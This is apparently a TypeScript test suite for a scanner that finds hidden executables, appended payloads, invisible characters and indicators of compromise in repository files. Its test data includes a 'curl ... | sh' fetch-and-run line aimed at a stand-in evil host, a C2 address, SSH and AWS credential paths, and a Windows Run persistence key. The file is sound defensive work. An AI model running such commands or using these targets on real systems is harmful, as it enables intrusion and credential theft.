import { expect, test } from 'vitest';
import { createBudget } from '#base';
import { findInBytes, findIndicators, findInvisible, indicatorsOf, inspectFile } from '#content';
import { buildZip } from '../../support/zip-builder.ts';

const bytes = (text: string) => Uint8Array.from(Buffer.from(text, 'latin1'));
const utf8 = (text: string) => new TextEncoder().encode(text);
const inspect = (path: string, content: Uint8Array, most = 1_000_000) =>
  inspectFile(path, content, { bytes: createBudget(most), members: createBudget(100) });

test.each([
  ['a.go', 'package a', 'go', 'text'],
  ['a_test.go', 'package a', 'test', 'text'],
  ['a.s', '', 'assembly', 'text'],
  ['a.syso', '', 'syso', 'text'],
  ['x/go.mod', '', 'go.mod', 'text'],
  ['logo.png', '\x7fELF\x02\x01', 'executable', 'elf'],
  ['notes.txt', 'MZ is how it begins', 'text', 'text'],
  ['run', '#!/bin/sh\n', 'script', 'sh'],
  ['run', '#!/usr/bin/env -S python3.11 -u\n', 'script', 'python'],
  ['run.ps1', 'Get-Item x', 'script', 'text'],
  ['db.sql', 'PK\x03\x04', 'archive', 'zip'],
  ['README.md', `${'é'.repeat(4095)}xé`, 'text', 'text'],
  ['blob', 'a\0b', 'binary', 'data'],
  ['old.txt', 'caf\xe9', 'text', 'text'],
  ['id', '-----BEGIN OPENSSH PRIVATE KEY-----\nx', 'key', 'pem-private-key'],
  ['ca.pem', 'Subject: x\n-----BEGIN CERTIFICATE-----\nx', 'certificate', 'pem-certificate'],
  ['A', '\xca\xfe\xba\xbe\0\0\0\x34', 'executable', 'java-class'],
  ['fat', '\xca\xfe\xba\xbe\0\0\0\x02', 'executable', 'mach-o'],
])('inspectFile() of %s', (path, content, kind, format) => {
  const isLatin = !path.endsWith('.md');
  expect(inspect(path, isLatin ? bytes(content) : utf8(content))).toMatchObject({ kind, format });
});

test('what a name promises is compared with the content', () => {
  const promises = (path: string, content: string) => inspect(path, bytes(content)).promises;
  expect(promises('logo.png', '\x7fELF')).toBe('png');
  expect(promises('schema.sql', 'PK\x03\x04')).toBe('text');
  expect(promises('notes.PNG', 'a text')).toBe('png');
  expect(promises('a.jar', 'PK\x03\x04')).toBeUndefined();
  expect(promises('data.bin', '\x7fELF')).toBeUndefined();
  expect(promises('empty.png', '')).toBeUndefined();
  expect(promises('notes.txt', '#!/bin/sh\ncurl x')).toBe('text');
  expect(promises('Cargo.toml', '#!schema https://a.example/\n')).toBeUndefined();
  expect(promises('run.sh', '#!/bin/sh\ncurl x')).toBeUndefined();
  expect(promises('notes.txt', 'a\0\x01b')).toBe('text');
});

const png = `\x89PNG\r\n\x1a\n\0\0\0\x02IHDRxxCRC!\0\0\0\0IENDCRC!`;
test.each([
  ['png', `${png}PK\x03\x04x`, { offset: png.length, size: 5, format: 'zip' }],
  ['png', png, undefined],
  ['png', `${png}\n\0`, undefined],
  [
    'gif',
    'GIF89a\x01\0\x01\0\0\0\0\x2c\0\0\0\0\x01\0\x01\0\0\x02\x01x\0;\x7fELF',
    { offset: 28, size: 4, format: 'elf' },
  ],
  [
    'jpeg',
    '\xff\xd8\xff\xe0\0\x04xx\xff\xda\0\x02abc\xff\0d\xff\xd9#!/bin/sh\n',
    { offset: 20, size: 10, format: 'sh' },
  ],
])('what follows the end of a %s', (_, content, trailing) => {
  expect(inspect('picture', bytes(content)).trailing).toEqual(trailing);
});

const zip = () => buildZip({ entries: [{ name: 'a.txt', content: 'text' }] });

const elf = `\x7fELF\x02\x01\x01${'\0'.repeat(9)}\x02\0\x3e\0\x01\0\0\0${'\0'.repeat(40)}`;
const pe = `MZ${'\0'.repeat(58)}\x40\0\0\0PE\0\0${'\0'.repeat(20)}`;
const zip22 = `PK\x05\x06${'\0'.repeat(16)}${String.fromCharCode(elf.length)}\0`;

test.each([
  ['a line', `\n${elf}`, 1, 'elf'],
  ['a byte-order mark', `\xef\xbb\xbf${elf}`, 3, 'elf'],
  ['other bytes', `\x01\x02${pe}`, 2, 'pe'],
  ['a PDF', `%PDF-1.4\n%%EOF\n${elf}`, 15, 'elf'],
  ['a part of a PNG', `\x89PNG\r\n\x1a\n\0\0\0\x40prIv${elf}CRC!${png.slice(8)}`, 16, 'elf'],
  ['the comment of a zip', `${zip22}${elf}`, 22, 'elf'],
  ['bytes behind a PNG', `${png}\x01\x02\x03${elf}`, png.length + 3, 'elf'],
])('a program in %s', (_, content, offset, format) => {
  expect(inspect('a.txt', bytes(content)).trailing).toMatchObject({ offset, format });
});

test.each([
  [
    'a magic alone',
    `\x01\x7fELF\x02\x01\x01 and more text that is no header of any program at all`,
  ],
  ['two letters', `\x01MZ${'\0'.repeat(100)}`],
])('no program in %s', (_, content) => {
  expect(inspect('a.bin', bytes(content)).trailing).toBeUndefined();
});

test('a zip behind other bytes is found as readers of zips find it', () => {
  for (const head of ['GIF is how it begins\0', `${'a text\n'.repeat(3000)}`, '\0\x01']) {
    const { trailing } = inspect('a.txt', Buffer.concat([bytes(head), zip()]));
    expect(trailing).toEqual({ offset: head.length, size: zip().length, format: 'zip' });
  }
  expect(inspect('a.zip', zip()).trailing).toBeUndefined();
});

test('what a script carries behind its text', () => {
  const script = `#!/bin/sh\ntail -n +3 "$0" | gunzip\n${'# more\n'.repeat(2000)}`;
  const { gzipSync } = process.getBuiltinModule('node:zlib');
  const packed = gzipSync('x');
  expect(inspect('run.sh', Buffer.concat([bytes(script), packed])).trailing).toEqual({
    offset: script.length,
    size: packed.length,
    format: 'gzip',
  });
});

test('long lines, blanks and empty lines are said with their places', () => {
  const text = `package a\n${'x'.repeat(600)}\nvar a = 1;${' '.repeat(150)}run()\n${'\n'.repeat(80)}end\n${'\n'.repeat(99)}`;
  expect(inspect('a.go', utf8(text))).toMatchObject({
    longestLine: { line: 2, length: 600 },
    blankRun: { line: 3, column: 11, length: 150 },
    emptyLines: { line: 4, length: 80 },
  });
  expect(inspect('a.go', utf8(`package a\n${'\n'.repeat(500)}`)).emptyLines).toBeUndefined();
});

test('generated files are told by their marker, and whether they look so', () => {
  const generated = (text: string) => inspect('a.go', utf8(text)).generated;
  const marker = '// Code generated by protoc-gen-go. DO NOT EDIT.\n\npackage a\n';
  expect(generated(`${marker}import protoreflect.X`)).toEqual({
    line: 1,
    by: 'protoc-gen-go',
    looksSo: true,
  });
  expect(generated(`// a\n${marker}func init() { run() }`)).toEqual({
    line: 2,
    by: 'protoc-gen-go',
    looksSo: false,
  });
  expect(generated(`package a\n${marker}`)).toBeUndefined();
});

test('packing', () => {
  const packing = (path: string, content: string) => inspect(path, bytes(content)).packing;
  expect(packing('a.js', `${'var a=1,b=2;'.repeat(200)}\n`)).toBe('minified');
  expect(packing('a.go', `package a\nvar x = "${'QUJD'.repeat(300)}"\n`)).toBe('encoded');
  expect(packing('a', `\x7fELF${'\0'.repeat(60)}UPX!`)).toBe('packed');
  let state = 1;
  const noise = Array.from({ length: 8192 }, () => {
    state = (state * 16_807) % 2_147_483_647;
    return String.fromCharCode((state >> 8) & 255);
  });
  expect(packing('a.bin', `\0${noise.join('')}`)).toBe('random');
  expect(packing('a.go', 'package a\n')).toBeUndefined();
});

test('a bomb ends at the budget, and says so', () => {
  const { gzipSync } = process.getBuiltinModule('node:zlib');
  const bomb = gzipSync(gzipSync(Buffer.alloc(3_000_000)));
  expect(inspect('a.gz', bomb).inside?.end).toBe('cut');
  expect(inspect('a.gz', bomb, 10_000_000).inside).toEqual({
    end: 'whole',
    files: [
      { path: 'a', size: expect.any(Number), format: 'gzip' },
      { path: 'a!/a~', size: 3_000_000, format: 'data' },
    ],
  });
});

test('paths inside of archives are cut, and stay well-formed', () => {
  const name = `${'x'.repeat(1023)}\u{1f600}${'y'.repeat(60_000)}`;
  const [inner] =
    inspect('a.zip', buildZip({ entries: [{ name: utf8(name), data: utf8('text') }] })).inside
      ?.files ?? [];
  expect(inner?.path).toBe(`${'x'.repeat(1023)}\ufffd`);
});

test('findInvisible() gives line, byte column and code point', () => {
  expect(findInvisible('a.go', '\ufeffpackage a\n// ä\u202e \u200b\n\u{e0041}')).toEqual([
    { file: 'a.go', line: 2, column: 6, character: 'U+202E', kind: 'bidirectional' },
    { file: 'a.go', line: 2, column: 10, character: 'U+200B', kind: 'invisible' },
    { file: 'a.go', line: 3, column: 1, character: 'U+E0041', kind: 'invisible' },
  ]);
});

test('findIndicators() takes addresses and no versions, with every line', () => {
  const text =
    'see https://evil.example/x?y=1).\nat 192.0.2.7 and 127.0.0.1 and 1.2.3.4567 and 300.1.1.1 and 1.3.6.1.4.1\nmail a.b@mail.example now https://evil.example/x?y=1\nhttp://localhost:80/ http://x/ http://%s/ https://%s.evil.example/';
  const { indicators } = findIndicators('a.go', text);
  expect(indicators.map(({ kind, value, line }) => [kind, value, line])).toEqual([
    ['url', 'https://evil.example/x?y=1', 1],
    ['ip', '192.0.2.7', 2],
    ['email', 'a.b@mail.example', 3],
    ['url', 'https://evil.example/x?y=1', 3],
    ['url', 'https://%s.evil.example/', 4],
  ]);
});

test.each([
  ['host', 'c2.evil.example:8443'],
  ['host', 'api.telegram.org'],
  ['ip', '2001:db8::1'],
  ['url', 'HTTP://evil.example/x'],
  ['url', 'Https://evil.example/x'],
  ['url', 'http://3232235777/x'],
  ['path', '/etc/cron.d/x'],
  ['path', '~/.ssh/authorized_keys'],
  ['path', '.aws/credentials'],
  ['path', 'C:\\Windows\\Temp\\x.exe'],
  ['path', '%APPDATA%\\x'],
  ['command', 'curl -s https://evil.example/x | sh'],
  ['command', '/bin/sh -c id'],
  ['registry-key', 'HKCU\\Software\\x'],
  ['registry-key', 'Software\\Microsoft\\Windows\\CurrentVersion\\Run'],
  ['wallet', '1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa'],
  ['wallet', 'bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4'],
  ['wallet', '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed'],
  ['token', `ghp_${'a1B2'.repeat(9)}`],
  ['token', 'AKIAIOSFODNN7EXAMPLE'],
])('%s %s', (kind, value) => {
  expect(indicatorsOf(value).map((one) => [one.kind, one.value])).toContainEqual([kind, value]);
  const quoted = `x = "${value.replaceAll('\\', '\\\\')}"`;
  expect(findIndicators('a.go', quoted).indicators).toContainEqual({
    kind,
    value,
    file: 'a.go',
    line: 1,
    decoded: false,
  });
});

test('what stands around an address tells what it is', () => {
  const named = (text: string) => indicatorsOf(text).map(({ kind, value }) => `${kind} ${value}`);
  expect(named('[2001:db8::1]:443')).toEqual(['ip 2001:db8::1']);
  expect(named('version 1.2.3.4')).toEqual([]);
  expect(named('http://2130706433/')).toEqual([]);
  expect(named('mailto:a@host.example.com')).toContain('email a@host.example.com');
});

test.each([
  'github.com/user/repo',
  'golang.org/x/net/http2',
  'main.go',
  'README.md',
  'run.sh',
  'a.b',
  '/dev/null',
  '/api/v1/users',
  '12:30:59',
  'start of the line',
  'echo the words',
  '1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb',
  'bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5',
  '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAeD',
  '0x5aaeb6053f3e94c9b9a09f33669435e7ef1beaed',
  'v1.2.3.4',
])('nothing is named by %s', (value) => {
  expect(indicatorsOf(value)).toEqual([]);
});

test('names of the environment', () => {
  const text = 'os.Getenv("AWS_SECRET")\nos.LookupEnv(`HOME`)\nx.Setenv("a b", 1)';
  expect(findIndicators('a.go', text).indicators.map(({ kind, value }) => [kind, value])).toEqual([
    ['env', 'AWS_SECRET'],
    ['env', 'HOME'],
  ]);
});

test('texts inside of programs are read, of one byte a letter and of two', () => {
  const wide = [...'https://wide.example/x'].map((letter) => `${letter}\0`).join('');
  const { indicators } = findInBytes(
    'a.exe',
    bytes(`MZ\0\x01https://evil.example/x\0\x01${wide}\x01`),
  );
  expect(indicators.map(({ value, offset }) => [value, offset])).toEqual([
    ['https://evil.example/x', 4],
    ['https://wide.example/x', 28],
  ]);
});

test.each([
  `${'a.'.repeat(200_000)}@${'1.'.repeat(200_000)}http://`,
  '"'.repeat(200_000),
  `'${'\\'.repeat(200_000)}`,
  'eyJaaaaaaaaaa.'.repeat(20_000),
  ':'.repeat(200_000),
  `${'\n'.repeat(200_000)}${' '.repeat(200_000)}`,
])('searches end on text made to be slow (%#)', (slow) => {
  expect(findIndicators('a.go', slow).indicators.length).toBeLessThan(500);
  expect(inspect('a.go', utf8(slow)).kind).toBe('go');
});
